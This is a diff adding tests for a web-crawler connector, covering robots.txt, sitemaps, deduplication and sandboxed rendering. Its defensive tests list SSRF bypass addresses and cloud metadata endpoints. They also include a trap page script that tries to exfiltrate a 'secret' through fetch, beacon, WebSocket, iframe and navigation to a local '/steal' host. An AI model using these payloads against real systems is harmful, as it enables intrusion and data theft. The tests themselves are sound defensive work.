@@ -1,0 +1,407 @@
+import { existsSync } from "node:fs";
+import { mkdtemp, readdir, rm } from "node:fs/promises";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { gzipSync } from "node:zlib";
+import { defaultDeletionPolicy } from "@anneal/core/connect/deletion-policy";
+import { afterEach, beforeEach, describe, expect, it } from "vitest";
+import { describeConnector } from "../../conformance/describe-connector.ts";
+import { MemoryTarget } from "../../conformance/memory-target.ts";
+import { linksTo, startSite, type TestSite } from "../../conformance/start-site.ts";
+import { defaultLimits, type ConnectContext } from "../connector.ts";
+import { webConfigSchema, type WebConfig } from "./config.ts";
+import { webConnector } from "./web-connector.ts";
+
+const quick = { requestsPerSecond: 1000, concurrency: 4, allowPrivateHosts: true, render: "never" } as const;
+
+describeConnector("web", async () => {
+  const site = await startSite();
+  const pathOf = (name: string) => `/${name.split("/").map(encodeURIComponent).join("/")}`;
+  const relink = () => {
+    const paths = [...site.pages.keys()].filter((path) => path !== "/");
+    site.pages.set("/", { body: `<title>Start</title>${linksTo(paths)}` });
+  };
+  const put = async (name: string, text: string) => {
+    site.pages.set(pathOf(name), { body: `<title>${encodeURI(name)}</title><p>${text}</p>` });
+    relink();
+  };
+  const remove = async (name: string) => {
+    site.pages.delete(pathOf(name));
+    relink();
+  };
+  return {
+    connector: webConnector,
+    config: webConfigSchema.parse({ ...quick, url: site.origin, include: ["*.md"] }),
+    secrets: {},
+    refOf: (name) => site.origin + pathOf(name),
+    put,
+    remove,
+    async move(from, to) {
+      site.pages.set(pathOf(to), site.pages.get(pathOf(from))!);
+      await remove(from);
+    },
+    async breakItem(name) {
+      const page = site.pages.get(pathOf(name))!;
+      site.pages.set(pathOf(name), { ...page, status: 500 });
+      return async () => void site.pages.set(pathOf(name), page);
+    },
+    async vanish() {
+      await site.stop();
+      return () => site.start();
+    },
+    close: () => site.stop(),
+  };
+});
+
+describe("webConnector", () => {
+  let site: TestSite;
+  let context: ConnectContext;
+  beforeEach(async () => {
+    site = await startSite();
+    context = {
+      signal: new AbortController().signal,
+      tempDir: await mkdtemp(join(tmpdir(), "anneal-web-")),
+      limits: { ...defaultLimits, requestTimeoutMs: 10_000 },
+      deletions: defaultDeletionPolicy,
+      chromiumPath: null,
+    };
+  });
+  afterEach(async () => {
+    await site.stop();
+    await rm(context.tempDir, { recursive: true, force: true });
+  });
+
+  const page = (path: string, body: string, headers: Record<string, string> = {}, status?: number) =>
+    site.pages.set(path, { body, headers, ...(status === undefined ? {} : { status }) });
+  const configOf = (config: Partial<WebConfig> = {}) =>
+    webConfigSchema.parse({ ...quick, url: `${site.origin}/`, ...config });
+  const sync = async (target: MemoryTarget, config: Partial<WebConfig> = {}) => {
+    await target.apply(
+      webConnector.read({
+        config: configOf(config),
+        secrets: {},
+        cursor: target.cursor,
+        known: target.known(),
+        context,
+      }),
+    );
+    return target;
+  };
+  const paths = (target: MemoryTarget) =>
+    [...target.documents.keys()].map((ref) => ref.slice(site.origin.length)).sort();
+
+  it("keeps to robots.txt, names itself, and is stopped by a robots.txt that cannot be had", async () => {
+    page("/robots.txt", "User-agent: *\nDisallow: /\n\nUser-agent: AnnealBot\nDisallow: /private\n", {
+      "content-type": "text/plain",
+    });
+    page("/", linksTo(["/open", "/private/plan"]));
+    page("/open", "open");
+    page("/private/plan", "plan");
+    expect(paths(await sync(new MemoryTarget()))).toEqual(["/", "/open"]);
+    expect(site.takeLog()).not.toContain("200 /private/plan");
+    page("/robots.txt", "", {}, 500);
+    await expect(sync(new MemoryTarget())).rejects.toMatchObject({ code: "SOURCE_UNREACHABLE" });
+    page("/robots.txt", "User-agent: *\nDisallow: /", { "content-type": "text/plain" });
+    await expect(sync(new MemoryTarget())).rejects.toMatchObject({ code: "SOURCE_FORBIDDEN" });
+  });
+
+  it("finds pages by sitemap indexes, zipped ones and plain text, beside links", async () => {
+    page("/robots.txt", `Sitemap: ${site.origin}/index.xml\nSitemap: ${site.origin}/plain.txt`, {
+      "content-type": "text/plain",
+    });
+    const xml = { "content-type": "application/xml" };
+    const sitemap = (loc: string) =>
+      `<?xml version="1.0"?><urlset xmlns:i="urn:i"><url><loc> ${site.origin}${loc} </loc><i:image><i:loc>${site.origin}/no</i:loc></i:image></url></urlset>`;
+    page("/index.xml", `<sitemapindex><sitemap><loc>${site.origin}/a.xml.gz</loc></sitemap></sitemapindex>`, xml);
+    site.pages.set("/a.xml.gz", {
+      body: gzipSync(sitemap("/orphan")),
+      headers: { "content-type": "application/gzip" },
+    });
+    page("/plain.txt", `${site.origin}/listed\nhttp://elsewhere.example/x\n`, { "content-type": "text/plain" });
+    page("/", "start");
+    page("/orphan", "orphan");
+    page("/listed", "listed");
+    page("/no", "an image, not a page");
+    expect(paths(await sync(new MemoryTarget()))).toEqual(["/", "/listed", "/orphan"]);
+  });
+
+  it("asks only whether known pages changed, and still finds what lies behind unchanged ones", async () => {
+    page("/", linksTo(["/a"]));
+    page("/a", `a ${linksTo(["/b"])}`);
+    page("/b", `b ${linksTo(["/c"])}`);
+    page("/c", "c");
+    const target = await sync(new MemoryTarget());
+    site.takeLog();
+    page("/c", `c is new ${linksTo(["/d"])}`);
+    page("/d", "d");
+    await sync(target);
+    expect(
+      site
+        .takeLog()
+        .filter((line) => /\/[abcd]?$/.test(line))
+        .sort(),
+    ).toEqual([
+      // The start is fetched once to see where it leads.
+      "200 /",
+      "200 /c",
+      "200 /d",
+      "304 /",
+      "304 /a",
+      "304 /b",
+    ]);
+    expect(target.opened.map((ref) => ref.slice(site.origin.length))).toEqual(["/c", "/d"]);
+  });
+
+  it("deletes a page that is gone, or that nothing leads to any more, but not behind a page that fails", async () => {
+    page("/", linksTo(["/a", "/b"]));
+    page("/a", linksTo(["/behind-a"]));
+    page("/behind-a", "behind a");
+    page("/b", linksTo(["/behind-b"]));
+    page("/behind-b", "behind b");
+    const target = await sync(new MemoryTarget());
+    page("/a", "down", {}, 500);
+    page("/b", "b leads nowhere now");
+    await sync(target);
+    expect(paths(target)).toEqual(["/", "/a", "/b", "/behind-a"]);
+    expect(target.failures.map(({ ref }) => ref)).toEqual([`${site.origin}/a`]);
+    page("/a", "gone", {}, 410);
+    await sync(target);
+    expect(paths(target)).toEqual(["/", "/b"]);
+  });
+
+  it("deletes nothing for being absent when the page limit cut the crawl short", async () => {
+    page("/", linksTo(["/a", "/b"]));
+    page("/a", "a");
+    page("/b", "b");
+    const target = await sync(new MemoryTarget());
+    await sync(target, { maxPages: 2 });
+    expect(paths(target)).toEqual(["/", "/a", "/b"]);
+    page("/a", "gone", {}, 404);
+    await sync(target, { maxPages: 2 });
+    expect(paths(target)).toEqual(["/", "/b"]);
+  });
+
+  it("ends the run, without deletions, when the site goes down in the middle", async () => {
+    const names = Array.from({ length: 30 }, (_, index) => `/${index}`);
+    page("/", linksTo(names));
+    for (const name of names) page(name, `page ${name}`);
+    const target = await sync(new MemoryTarget());
+    for (const name of names) page(name, "down", {}, 502);
+    await expect(sync(target)).rejects.toMatchObject({ code: "SOURCE_UNREACHABLE" });
+    expect(target.documents.size).toBe(31);
+  });
+
+  it("stores each page once: canonical, redirected, tracked, sorted and fragmented addresses are one", async () => {
+    page(
+      "/",
+      linksTo(["/a?utm_source=x", "/a#part", "/old", "/copy", "/q?b=2&a=1", "/q?a=1&b=2&fbclid=3", "/logo.png"]),
+    );
+    page("/a", "a");
+    page("/old", "", { location: "/new" }, 301);
+    page("/new", "new");
+    page("/copy", `<link rel="canonical" href="/original">copy`);
+    page("/original", `<link rel="canonical" href="/original">original`);
+    page("/q?a=1&b=2", `<link rel="canonical" href="/">wrongly canonical`);
+    expect(paths(await sync(new MemoryTarget()))).toEqual(["/", "/a", "/new", "/original", "/q?a=1&b=2"]);
+    expect(site.takeLog()).not.toContain("404 /logo.png");
+  });
+
+  it("leaves out pages marked noindex but follows them, and nofollow pages the other way round", async () => {
+    page("/", linksTo(["/hub", "/leaf", "/header"]));
+    page("/hub", `<meta name="robots" content="noindex">${linksTo(["/from-hub"])}`);
+    page("/leaf", `<meta name="robots" content="nofollow">leaf ${linksTo(["/from-leaf"])}`);
+    page("/header", "hidden", { "x-robots-tag": "noindex" });
+    page("/from-hub", "from hub");
+    page("/from-leaf", "from leaf");
+    expect(paths(await sync(new MemoryTarget()))).toEqual(["/", "/from-hub", "/leaf"]);
+    expect(paths(await sync(new MemoryTarget(), { respectNoindex: false }))).toContain("/hub");
+  });
+
+  it("takes a page that says it does not exist for one that does not", async () => {
+    const missing = (path: string) => `<title>Oops</title><p>Nothing at ${path}, sorry.</p>`;
+    page("/annealbot-asks-for-a-page-that-does-not-exist", missing("/annealbot-asks-for-a-page-that-does-not-exist"));
+    page("/", linksTo(["/real", "/ghost"]));
+    page("/real", "<title>Oops</title>A real page.");
+    page("/ghost", missing("/ghost"));
+    expect(paths(await sync(new MemoryTarget()))).toEqual(["/", "/real"]);
+  });
+
+  it("brings linked documents along, and nothing that is neither page nor document", async () => {
+    page("/", linksTo(["/manual.pdf", "/download?id=1", "/data.bin", "/tool"]));
+    site.pages.set("/manual.pdf", {
+      body: Buffer.from("%PDF-1.7 manual"),
+      headers: { "content-type": "application/pdf" },
+    });
+    site.pages.set("/download?id=1", {
+      body: "a,b",
+      headers: { "content-type": "text/csv", "x-robots-tag": "googlebot: nofollow" },
+    });
+    site.pages.set("/tool", { body: "MZ", headers: { "content-type": "application/x-msdownload" } });
+    const target = await sync(new MemoryTarget());
+    expect(paths(target)).toEqual(["/", "/download?id=1", "/manual.pdf"]);
+    expect(target.documents.get(`${site.origin}/manual.pdf`)).toMatchObject({
+      text: "%PDF-1.7 manual",
+      item: { mediaType: "application/pdf", sizeBytes: 15 },
+    });
+    expect(await readdir(context.tempDir)).toEqual([]);
+    await sync(target);
+    expect(target.opened).toEqual([]);
+  });
+
+  it("stays on its host and out of loops that make addresses longer for ever", async () => {
+    page(
+      "/",
+      linksTo(["http://elsewhere.example/", "//elsewhere.example/x", "/away", "mailto:a@b.c", "javascript:void(0)"]),
+    );
+    page("/away", "", { location: "http://elsewhere.example/y" }, 302);
+    const loop = (depth: number) => `/loop${"/again".repeat(depth)}`;
+    for (let depth = 0; depth < 50; depth += 1) page(loop(depth), `loop ${depth} ${linksTo([loop(depth + 1)])}`);
+    for (let day = 0; day < 500; day += 1)
+      page(`/calendar?day=${day}`, `day ${day} <a href="?day=${day + 1}">next</a>`);
+    page("/", linksTo(["/loop", "/calendar?day=0", "/away", "http://elsewhere.example/"]));
+    const target = await sync(new MemoryTarget(), { maxDepth: 100, maxPages: 5000 });
+    expect(paths(target).filter((path) => path.startsWith("/loop")).length).toBe(4);
+    expect(paths(target).filter((path) => path.startsWith("/calendar")).length).toBe(100);
+  });
+
+  it("waits as long as a 429 says, then goes on", async () => {
+    page("/", linksTo(["/busy"]));
+    page("/busy", "slow down", { "retry-after": "0" }, 429);
+    const target = new MemoryTarget();
+    let answered = 0;
+    const stream = webConnector.read({ config: configOf(), secrets: {}, cursor: null, known: target.known(), context });
+    const busy = site.pages.get("/busy")!;
+    site.pages.get = (path) => {
+      if (path !== "/busy") return Map.prototype.get.call(site.pages, path);
+      answered += 1;
+      return answered < 3 ? busy : { body: "at last" };
+    };
+    await target.apply(stream);
+    expect(target.documents.get(`${site.origin}/busy`)?.text).toBe("at last");
+  });
+
+  it("turns other charsets into UTF-8, whoever named them", async () => {
+    page("/", linksTo(["/header", "/meta"]));
+    const latin = Buffer.from("Größe", "latin1");
+    site.pages.set("/header", { body: latin, headers: { "content-type": "text/html; charset=iso-8859-1" } });
+    site.pages.set("/meta", {
+      body: Buffer.concat([Buffer.from("<meta charset='windows-1252'>"), latin]),
+      headers: { "content-type": "text/html" },
+    });
+    const target = await sync(new MemoryTarget());
+    for (const path of ["/header", "/meta"]) expect(target.documents.get(site.origin + path)?.text).toContain("Größe");
+  });
+
+  it("does not read a page again for a new nonce, time stamp in a script, or another order of attributes", async () => {
+    page("/", `<script nonce="1">now(1)</script><p class="x" id="y">Same text.</p>`);
+    const target = await sync(new MemoryTarget());
+    page("/", `<script nonce="2">now(2)</script><p id="y" class="x">Same text.</p>`);
+    await sync(target);
+    expect(target.opened).toEqual([]);
+  });
+
+  it("refuses private hosts unless an administrator allowed them, and metadata services always", async () => {
+    page("/", linksTo(["/leak"]));
+    page("/leak", "", { location: "http://169.254.169.254/latest/meta-data/" }, 302);
+    const refused = { code: "SOURCE_FORBIDDEN", details: { code: "HOST_REFUSED" } };
+    await expect(sync(new MemoryTarget(), { allowPrivateHosts: false })).rejects.toMatchObject(refused);
+    for (const url of [
+      "http://localhost:8099/",
+      "http://[::ffff:127.0.0.1]/",
+      "http://2130706433/",
+      "http://0/",
+      "http://[fe80::1]/",
+    ]) {
+      await expect(sync(new MemoryTarget(), { url, allowPrivateHosts: false }), url).rejects.toMatchObject(refused);
+    }
+    for (const url of [
+      "http://169.254.169.254/",
+      "http://[fd00:ec2::254]/",
+      "http://100.100.100.200/",
+      "http://0.0.0.0/",
+    ]) {
+      await expect(sync(new MemoryTarget(), { url }), url).rejects.toMatchObject(refused);
+    }
+    expect(paths(await sync(new MemoryTarget()))).toEqual(["/"]);
+    page("/", "", { location: "http://169.254.169.254/" }, 302);
+    await expect(sync(new MemoryTarget())).rejects.toMatchObject(refused);
+  });
+
+  it("names what is wrong with the address", async () => {
+    const codeOf = async (config: Partial<WebConfig>) =>
+      (await webConnector.check(configOf(config), {}, context)).error?.code;
+    expect(await codeOf({})).toBe("SOURCE_NOT_FOUND");
+    expect(await codeOf({ url: "http://nowhere.invalid/" })).toBe("SOURCE_UNREACHABLE");
+    page("/", "members only", {}, 403);
+    expect(await codeOf({})).toBe("SOURCE_FORBIDDEN");
+    page("/", "", { location: "/" }, 302);
+    expect(await codeOf({})).toBe("SOURCE_UNREACHABLE");
+    page("/", "welcome");
+    expect(await codeOf({})).toBeUndefined();
+  });
+
+  const chromiumPath =
+    ["/usr/bin/chromium", process.env.ANNEAL_CHROMIUM].find((path) => path && existsSync(path)) ?? null;
+  describe.skipIf(chromiumPath === null)("with a browser", () => {
+    beforeEach(() => {
+      context = { ...context, chromiumPath };
+    });
+
+    it("renders pages that scripts fill, from what the site serves, and leaves others alone", async () => {
+      page("/", linksTo(["/app", "/static"]) + "A long enough start page. ".repeat(20));
+      page("/app", `<title>App</title><div id="root"></div><script src="/app.js"></script>`);
+      page(
+        "/app.js",
+        `fetch("/api/text").then((r) => r.json()).then(({ text }) => { root.innerHTML = "<p>" + text + "</p><a href=/inner>inner</a>"; })`,
+        {
+          "content-type": "text/javascript",
+        },
+      );
+      page("/api/text", `{"text":"Written by a script."}`, { "content-type": "application/json" });
+      page("/inner", "Reached through a rendered link.");
+      page("/static", `<p>${"Enough text to read. ".repeat(20)}</p><script>document.body.innerHTML = ""</script>`);
+      const target = await sync(new MemoryTarget(), { render: "auto" });
+      expect(paths(target)).toEqual(["/", "/app", "/inner", "/static"]);
+      expect(target.documents.get(`${site.origin}/app`)?.text).toContain("<p>Written by a script.</p>");
+      expect(target.documents.get(`${site.origin}/static`)?.text).toContain("Enough text");
+      await sync(target, { render: "auto" });
+      expect(target.opened).toEqual([]);
+    });
+
+    it("keeps a page's scripts behind the guard: no address, form, frame, socket or navigation gets out", async () => {
+      const outside = await startSite();
+      outside.pages.set("/steal", { body: "never" });
+      const target = `${outside.origin.replace("127.0.0.1", "localhost")}/steal`;
+      page(
+        "/",
+        `<title>Trap</title><div id="root"></div><script>
+        const tell = (name, state) => { root.innerHTML += "<p>" + name + " " + state + "</p>"; };
+        fetch("http://169.254.169.254/latest/").then(() => tell("metadata", "open"), () => tell("metadata", "shut"));
+        fetch("/post", { method: "POST" }).then(() => tell("post", "open"), () => tell("post", "shut"));
+        const frame = document.createElement("iframe"); frame.src = "${target}"; document.body.append(frame);
+        const image = document.createElement("img"); image.src = "${target}"; document.body.append(image);
+        try { new WebSocket("ws://127.0.0.1:${new URL(outside.origin).port}/steal"); } catch {}
+        navigator.sendBeacon("${target}", "secret");
+        setTimeout(() => { location.href = "${target}"; }, 50);
+      </script>`,
+      );
+      const stored = await sync(new MemoryTarget(), { render: "auto" });
+      const text = stored.documents.get(`${site.origin}/`)?.text.slice(0, 5000);
+      expect(text).toContain("metadata shut");
+      expect(text).toContain("post shut");
+      expect(outside.takeLog()).toEqual([]);
+      expect(site.takeLog().some((line) => line.endsWith("/post"))).toBe(false);
+      await outside.stop();
+    });
+
+    it("gives up on a script that never ends, and goes on with the next page", async () => {
+      context = { ...context, limits: { ...context.limits, requestTimeoutMs: 1500 } };
+      page("/", linksTo(["/endless", "/next"]) + "A long enough start page. ".repeat(20));
+      page("/endless", "<script>for (;;);</script>");
+      page("/next", "next");
+      const target = await sync(new MemoryTarget(), { render: "auto" });
+      expect(paths(target)).toEqual(["/", "/next"]);
+      expect(target.failures.map(({ ref }) => ref)).toEqual([`${site.origin}/endless`]);
+    });
+  });
+});
